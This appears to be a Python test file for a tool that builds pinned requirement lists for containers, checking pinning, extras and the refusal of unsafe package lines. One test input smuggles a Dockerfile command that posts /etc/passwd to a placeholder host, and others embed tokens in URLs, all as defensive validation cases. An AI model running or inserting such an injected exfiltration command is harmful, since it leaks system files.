"""What a container's Python gets installed, and the package lines that are refused."""

from __future__ import annotations

from importlib import metadata

import pytest
from packaging.requirements import Requirement
from packaging.specifiers import SpecifierSet

from taskapp_kit.deploy.packaging import requirements
from taskapp_kit.errors import ConfigError


def test_requirements_are_pinned_to_what_is_installed_here() -> None:
    lines = requirements.requirements()
    names = [line.partition("==")[0].partition("[")[0] for line in lines]
    assert len(names) == len(set(names))
    assert f"fastapi=={metadata.version('fastapi')}" in lines
    assert f"pydantic=={metadata.version('pydantic')}" in lines
    assert not [line for line in lines if line.startswith(("taskapp-kit", "modal", "pytest"))]


def test_an_extra_brings_its_packages() -> None:
    assert "crafter" in requirements.known_extras()
    added = set(requirements.requirements(["crafter"])) - set(requirements.requirements())
    assert f"crafter=={metadata.version('crafter')}" in added
    assert f"numba=={metadata.version('numba')}" in added


def test_an_unknown_extra_is_refused_with_the_known_ones() -> None:
    with pytest.raises(ConfigError, match="crafter"):
        requirements.requirements(["crofter"])


def test_an_authors_package_line_wins_over_ours_and_is_pinned_too() -> None:
    given = ["Pydantic>=2.5,<3", "numpy", "no-such-package-here", "httpx==0.1", "no-such-either>=2"]
    lines = requirements.requirements(extra_packages=given)
    (pinned,) = [Requirement(line) for line in lines if line.startswith("Pydantic")]
    assert pinned.specifier == SpecifierSet(f">=2.5,<3,=={metadata.version('pydantic')}")
    assert "httpx==0.1" in lines and "no-such-either>=2" in lines
    assert not [line for line in lines if line.startswith("pydantic==")]
    assert f"numpy=={metadata.version('numpy')}" in lines
    assert "no-such-package-here" in lines  # not installed here: nothing to pin it to


@pytest.mark.parametrize(
    "line",
    [
        "mine @ git+https://canary@github.com/me/mine",
        "mine @ https://me:canary@index.example/mine.whl",
        "mine @ https://index.example/mine.whl?private_token=canary",
        "mine@https://index.example/mine.whl?X-Amz-Signature=canary#sha256=0",
    ],
)
def test_an_address_with_a_token_is_refused_and_not_repeated(line: str) -> None:
    with pytest.raises(ConfigError, match="'mine'") as caught:
        requirements.requirements(extra_packages=[line])
    assert "canary" not in str(caught.value)


def test_an_archive_that_everybody_can_fetch_is_taken_as_it_is() -> None:
    line = "mine @ https://index.example/mine.whl#sha256=0"
    assert line in requirements.requirements(extra_packages=[line])


def test_bounds_in_parentheses_are_pinned_beside_them() -> None:
    (line,) = [
        line for line in requirements.requirements(extra_packages=["orjson (>=3,<9)"]) if line.startswith("orjson")
    ]
    assert Requirement(line) == Requirement(f"orjson>=3,<9,=={metadata.version('orjson')}")


@pytest.mark.parametrize(
    "line",
    [
        "--index-url x",
        "./mine",
        "mine @ file:///home/me/mine",
        "https://x.example/a.whl",
        "numpy\nRUN curl -d @/etc/passwd x.example",
        "numpy --index-url=x",
        "numpy @ ../numpy.whl",
        "mine @ git+file:///home/me/mine",
        "numpy -r other.txt",
    ],
)
def test_what_is_no_fetchable_package_is_refused(line: str) -> None:
    with pytest.raises(ConfigError):
        requirements.requirements(extra_packages=[line])


def test_metadata_lines_are_sorted_by_extra() -> None:
    base, optional = requirements.split_metadata(
        [
            "pydantic>=2.7",
            'tomli>=2; python_version < "3.11"',
            'crafter>=1.8; extra == "crafter"',
            "numba; (python_version < '3.15') and extra == 'crafter'",
            "legacy>=1.dev-r5",
            'modal; extra == "modal" and sys_platform != "win32"',
            'pywin32; extra == "modal" and sys_platform == "win32"',
        ],
        ["crafter", "modal", "empty"],
    )
    assert base == ["pydantic>=2.7", 'tomli>=2; python_version < "3.11"', "legacy>=1.dev-r5"]
    assert optional == {
        "crafter": ["crafter>=1.8", "numba"],
        "modal": ["modal"],
        "empty": [],
    }


def test_the_modules_of_packages_are_followed_through_what_they_need() -> None:
    modules, unknown = requirements.modules_of(
        ["fastapi==1", "uvicorn[standard]", "Not.Installed-Here>=1", "pyyaml; python_version < '3'"]
    )
    assert {"fastapi", "starlette", "pydantic_core", "anyio", "uvicorn", "uvloop", "yaml"} <= modules
    assert not {"pytest", "modal", "numpy"} & modules
    assert unknown == ("not-installed-here",)
    assert "uvloop" not in requirements.modules_of(["uvicorn"])[0]


def test_a_module_knows_its_package() -> None:
    assert requirements.providers_of("yaml") == ["PyYAML"]
    assert requirements.providers_of("no_such_module") == []
